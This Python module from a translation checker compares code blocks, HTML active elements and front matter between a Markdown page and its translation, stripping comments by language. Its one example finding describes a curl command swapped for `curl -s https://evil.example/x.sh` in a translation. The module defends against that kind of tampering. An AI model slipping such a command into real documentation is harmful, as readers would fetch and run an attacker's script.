"""``code_blocks``: a Markdown page's code blocks and front matter must be the same on both sides.

A reader copies a command from a translated page as readily as from the original, so the code is
compared, not trusted: the fenced and indented code blocks and the ``<pre>`` elements of both
pages (:func:`aligncheck.formats.markdown.markdown_code`) are matched in order (difflib's
longest-matching-block alignment over the sequence of blocks) and a block on one side only, or
whose code differs, is an error. Comments may be translated: each block's comments are taken out
before comparing, by the comment syntax of the fence's language (:func:`comment_syntax`: ``#``
for shell, Python, YAML...; ``//`` and ``/* */`` for C-like languages; ``--`` for SQL, Lua,
Haskell; ``<!-- -->`` for HTML and XML; ``%`` for TeX; ``;`` for Lisps). A block without a
language is read as shell (``#`` at the start of a word); a language not listed, and shell code
with a here-document, are compared exactly. The words of a comment may differ, not the
code-like tokens in it (a token with ``/ \\ | ; & $ ( ) { } [ ] = < >`` or a backtick), so code
misread as a comment (a regular expression holding ``//``) still counts. Trailing blanks and
blank lines are ignored; a changed fence language is a change.

HTML elements that show or run what is not element text (``<style>``, whose CSS ``content:``
shows text, ``<iframe srcdoc>``, ``<object>``, ``<embed>``, ``<input>``, ``<script>``...:
:data:`aligncheck.formats.html_text.ACTIVE_ELEMENTS`) are compared the same way, exactly, by
their tag (attributes sorted; text attributes such as ``alt``, ``title``, ``placeholder`` left
out, an input's ``value``/``placeholder`` being checked as text) and, for ``<style>`` and
``<script>``, their content.

Front matter (:mod:`aligncheck.formats.front_matter`): on one side only it is an error; a
top-level key on one side only is a warning. The values of its text keys (``title``,
``description``...) and its prose values are checked as paragraphs by the other checks; other
values are not compared (tags, dates and paths are localised legitimately).

The check runs on Markdown input only (:attr:`CheckContext.input_format`).
"""

from __future__ import annotations

import difflib
import hashlib
import re
from collections import Counter
from dataclasses import dataclass

from ..types import Finding, Severity
from .context import CheckContext, language_name
from .registry import register

_SHELL = frozenset({"", "sh", "bash", "shell", "zsh", "fish", "ksh", "dockerfile", "docker", "make", "makefile",
                    "cmake", "powershell", "ps1", "pwsh"})
_HASH = frozenset({"python", "py", "python3", "ruby", "rb", "perl", "pl", "r", "yaml", "yml", "toml", "conf", "nginx",
                   "elixir", "ex", "exs", "julia", "jl", "tcl", "nim", "coffee", "coffeescript", "graphql", "gql",
                   "crystal", "properties", "gitignore", "requirements", "pip"})
_SLASH = frozenset({"c", "h", "cpp", "c++", "cc", "cxx", "hpp", "cs", "csharp", "c#", "java", "javascript", "js",
                    "jsx", "mjs", "cjs", "ts", "typescript", "tsx", "go", "golang", "rust", "rs", "swift", "kotlin",
                    "kt", "kts", "scala", "dart", "groovy", "gradle", "objective-c", "objc", "objectivec", "jsonc",
                    "json5", "proto", "protobuf", "solidity", "sol", "zig", "scss", "less", "glsl", "hlsl",
                    "verilog", "php", "hcl", "terraform", "tf"})
_DASH = frozenset({"sql", "mysql", "postgresql", "postgres", "psql", "plsql", "sqlite", "tsql", "lua", "haskell",
                   "hs", "elm", "ada", "vhdl"})
_MARKUP = frozenset({"html", "xml", "svg", "xhtml", "vue", "svelte", "markdown", "md", "xsl", "xslt", "plist"})
_PERCENT = frozenset({"tex", "latex", "matlab", "octave", "erlang", "erl"})
_SEMI = frozenset({"lisp", "clojure", "clj", "scheme", "racket", "elisp", "emacs-lisp", "asm", "nasm", "ini"})
_CODE_CHARS = re.compile(r"[/\\|;&$(){}\[\]=<>`]")
_EDGE = ".,:!?'\"«»؟،؛"
_PARENTHESISED = re.compile(r"\(([^/\\|;&$(){}\[\]=<>`]*)\)")


@dataclass(frozen=True)
class CommentSyntax:
    """How comments are written in one language.

    Attributes:
        line: markers that comment out the rest of the line.
        block: ``(open, closes)`` pairs: a comment from ``open`` to the first of ``closes``.
        word_start: a line marker counts only at the start of a word (shell ``#``).
        quotes: characters that open a string (comment markers inside strings are text).
        multiline_strings: strings may span lines (shell); otherwise a line break ends one.
        triple: ``\"\"\"`` and ``'''`` open strings that end only at the same three characters.
        escapes_outside: a backslash outside strings escapes the next character (shell).
        space_after: a line marker counts only when a blank or the line's end follows (SQL ``--``).
    """

    line: tuple[str, ...] = ()
    block: tuple[tuple[str, tuple[str, ...]], ...] = ()
    word_start: bool = False
    quotes: str = "\"'"
    multiline_strings: bool = False
    triple: bool = False
    escapes_outside: bool = False
    space_after: bool = False


def comment_syntax(info: str) -> CommentSyntax | None:
    """The comment syntax of a fence language ``info`` (lower case; ``""``: no language, read as
    shell), or ``None`` when comments are not known (the code is compared exactly)."""
    if info in _SHELL:
        return CommentSyntax(line=("#",), word_start=True, quotes="\"'`", multiline_strings=True,
                             escapes_outside=True)
    if info in _HASH:
        return CommentSyntax(line=("#",), triple=True)
    if info in _SLASH:
        extra = ("#",) if info in ("php", "hcl", "terraform", "tf") else ()
        return CommentSyntax(line=("//",) + extra, block=(("/*", ("*/",)),), quotes="\"'`")
    if info == "css":
        return CommentSyntax(block=(("/*", ("*/",)),))
    if info in _DASH:
        return CommentSyntax(line=("--",), block=(("/*", ("*/",)),), space_after=True)
    if info in _MARKUP:
        return CommentSyntax(block=(("<!--", ("-->", "--!>")),), quotes="")
    if info in _PERCENT:
        return CommentSyntax(line=("%",), quotes="\"")
    if info in _SEMI:
        return CommentSyntax(line=(";",) + (("#",) if info == "ini" else ()), quotes="\"")
    return None


def split_comments(code: str, syntax: CommentSyntax | None) -> tuple[str, list[str]]:
    """``code`` without its comments (line breaks kept), and the comments' texts.

    Strings are skipped as the language writes them (see :class:`CommentSyntax`); a comment not
    closed runs to the end. With ``syntax`` ``None`` nothing is a comment.
    """
    if syntax is None:
        return code, []
    out: list[str] = []
    comments: list[str] = []
    i, n = 0, len(code)
    quote = ""
    while i < n:
        ch = code[i]
        if quote:
            if len(quote) == 3:
                if code.startswith(quote, i):
                    out.append(quote)
                    i += 3
                    quote = ""
                    continue
            elif ch == quote:
                quote = ""
            elif ch == "\n" and not syntax.multiline_strings:
                quote = ""
            elif ch == "\\" and not (syntax.escapes_outside and quote == "'") and i + 1 < n:
                out.append(code[i:i + 2])
                i += 2
                continue
            out.append(ch)
            i += 1
            continue
        if ch == "\\" and syntax.escapes_outside and i + 1 < n:
            out.append(code[i:i + 2])
            i += 2
            continue
        if syntax.triple and code.startswith(('"""', "'''"), i):
            quote = code[i:i + 3]
            out.append(quote)
            i += 3
            continue
        if ch in syntax.quotes:
            quote = ch
            out.append(ch)
            i += 1
            continue
        opened = next(((o, c) for o, c in syntax.block if code.startswith(o, i)), None)
        if opened is not None:
            o, closes = opened
            ends = [(e, e + len(c)) for c in closes for e in (code.find(c, i + len(o)),) if e >= 0]
            body_end, stop = min(ends) if ends else (n, n)
            comments.append(code[i + len(o):body_end])
            out.append("\n" * code.count("\n", i, stop))
            i = stop
            continue
        marker = next((m for m in syntax.line if code.startswith(m, i)), None)
        if marker is not None and (not syntax.word_start or i == 0 or code[i - 1] in " \t\n") and (
                not syntax.space_after or i + len(marker) >= n or code[i + len(marker)] in " \t\r\n"):
            stop = code.find("\n", i)
            stop = n if stop < 0 else stop
            comments.append(code[i + len(marker):stop])
            i = stop
            continue
        out.append(ch)
        i += 1
    return "".join(out), comments


def _word(token: str) -> str:
    """A comment's whitespace-separated ``token`` without the sentence punctuation around it, and
    without the brackets of a parenthesised word (``(optional)``), whose code-like characters then
    tell code from prose."""
    token = token.strip(_EDGE)
    m = _PARENTHESISED.fullmatch(token)
    return m.group(1) if m else token


def code_key(info: str, code: str) -> tuple:
    """What two code blocks are compared by: the language, the code without comments (lines
    without trailing blanks, tabs as 4 spaces, blank lines dropped) and the code-like tokens of
    the comments (a multiset)."""
    syntax = comment_syntax(info)
    if syntax is not None and syntax.escapes_outside and "<<" in code:
        syntax = None  # a here-document: its "#" lines are data, not comments
    bare, comments = split_comments(code, syntax)
    # trailing blanks do not count, except after a backslash (an escaped blank is no line continuation)
    lines = tuple((line if line.rstrip().endswith("\\") else line.rstrip()).expandtabs(4)
                  for line in bare.splitlines() if line.strip())
    tokens = Counter(t for c in comments for w in c.split() for t in (_word(w),) if _CODE_CHARS.search(t))
    return info, lines, tuple(sorted(tokens.items()))


def _bare_lines(info: str, code: str) -> list[tuple[str, str]]:
    """``(line as written, line without comments)`` per line of ``code`` that has code."""
    syntax = comment_syntax(info)
    if syntax is not None and syntax.escapes_outside and "<<" in code:
        syntax = None
    bare = split_comments(code, syntax)[0].splitlines()
    raw = code.splitlines()
    return [(r.strip(), b.strip()) for r, b in zip(raw, bare) if b.strip()]


def _quote(info: str, code: str, other: tuple[str, str] | None = None) -> str:
    """The first code line of ``code`` (comments aside) that ``other`` (``(info, code)``) lacks,
    or its first line, shortened and quoted."""
    lines = _bare_lines(info, code)
    if other is not None:
        theirs = {b for _, b in _bare_lines(*other)}
        lines = [(r, b) for r, b in lines if b not in theirs] or lines
    text = lines[0][0] if lines else "(empty)"
    return "`" + (text if len(text) <= 80 else text[:77] + "...") + "`"


def _noun(block) -> str:
    return "an HTML element" if block.kind == "html" else "a code block"


def _digest(*keys: tuple) -> str:
    """8 hex digits of the SHA-256 of code keys: in a message, what the finding's fingerprint
    (:data:`aligncheck.project.fingerprint.MESSAGE_SUBJECT`) tells one code block from another by."""
    return hashlib.sha256(repr(keys).encode("utf-8", "surrogatepass")).hexdigest()[:8]


def _lines(a: int, b: int) -> str:
    return f"line {a}" if a == b else f"lines {a}-{b}"


@register("code_blocks", "error", "CodeBlockMismatch",
          "A Markdown code block on one side only, or whose code (comments aside) differs; front matter on one "
          "side only.",
          "a fenced `curl https://example.org/api/v2` that became `curl -s https://evil.example/x.sh` in the "
          "translation; front matter in `en.md` only")
def check_code_blocks(ctx: CheckContext) -> list[Finding]:
    """Compare the code blocks and front matter of two Markdown documents (see the module
    docstring); ``[]`` for other input formats."""
    if ctx.input_format != "markdown":
        return []
    from ..formats.blocks import line_table
    from ..formats.front_matter import read_front_matter
    from ..formats.markdown import markdown_code

    src_name, tgt_name = language_name(ctx.source.lang), language_name(ctx.target.lang)
    out: list[Finding] = []
    src_fm = read_front_matter(ctx.source.text, line_table(ctx.source.text))
    tgt_fm = read_front_matter(ctx.target.text, line_table(ctx.target.text))
    if (src_fm is None) != (tgt_fm is None):
        fm, side, other = (tgt_fm, tgt_name, src_name) if tgt_fm is not None else (src_fm, src_name, tgt_name)
        out.append(Finding("code_blocks", Severity.ERROR, (), (),
                           f"{side} {_lines(fm.line, fm.end_line)}: front matter the {other} does not have "
                           f"(keys: {', '.join(fm.keys) or 'none'})"))
    elif src_fm is not None and tgt_fm is not None:
        lost = [k for k in src_fm.keys if k not in tgt_fm.keys]
        added = [k for k in tgt_fm.keys if k not in src_fm.keys]
        if lost or added:
            parts = ([f"{', '.join(lost)} missing in the {tgt_name}"] if lost else []) + (
                [f"{', '.join(added)} not in the {src_name}"] if added else [])
            out.append(Finding("code_blocks", Severity.WARNING, (), (),
                               f"{tgt_name} {_lines(tgt_fm.line, tgt_fm.end_line)}: front matter keys differ: "
                               + "; ".join(parts)))
    src = markdown_code(ctx.source.text, path=ctx.source.path)
    tgt = markdown_code(ctx.target.text, path=ctx.target.path)
    src_keys = [code_key(b.info, b.code) for b in src]
    tgt_keys = [code_key(b.info, b.code) for b in tgt]
    matcher = difflib.SequenceMatcher(None, src_keys, tgt_keys, autojunk=False)
    for op, i1, i2, j1, j2 in matcher.get_opcodes():
        if op == "equal":
            continue
        pairs = min(i2 - i1, j2 - j1)
        for k in range(pairs):
            s, t = src[i1 + k], tgt[j1 + k]
            if "html" in (s.kind, t.kind):
                what, noun = f"{_quote(s.info, s.code)} became {_quote(t.info, t.code)}", "HTML element"
            elif s.info != t.info:
                what, noun = f"its language changed from `{s.info or 'none'}` to `{t.info or 'none'}`", "code block"
            else:
                what = f"{_quote(s.info, s.code, (t.info, t.code))} became {_quote(t.info, t.code, (s.info, s.code))}"
                noun = "code block"
            out.append(Finding("code_blocks", Severity.ERROR, (), (),
                               f"{tgt_name} {_lines(t.line, t.end_line)} / {src_name} {_lines(s.line, s.end_line)}: "
                               f"the {noun} differs{' (comments aside)' if noun == 'code block' else ''}: {what} "
                               f"(code {_digest(src_keys[i1 + k], tgt_keys[j1 + k])})"))
        for k in range(i1 + pairs, i2):
            s = src[k]
            out.append(Finding("code_blocks", Severity.ERROR, (), (),
                               f"{src_name} {_lines(s.line, s.end_line)}: {_noun(s)} missing in the {tgt_name}: "
                               f"{_quote(s.info, s.code)} (code {_digest(src_keys[k])})"))
        for k in range(j1 + pairs, j2):
            t = tgt[k]
            out.append(Finding("code_blocks", Severity.ERROR, (), (),
                               f"{tgt_name} {_lines(t.line, t.end_line)}: {_noun(t)} the {src_name} does not have: "
                               f"{_quote(t.info, t.code)} (code {_digest(tgt_keys[k])})"))
    return out
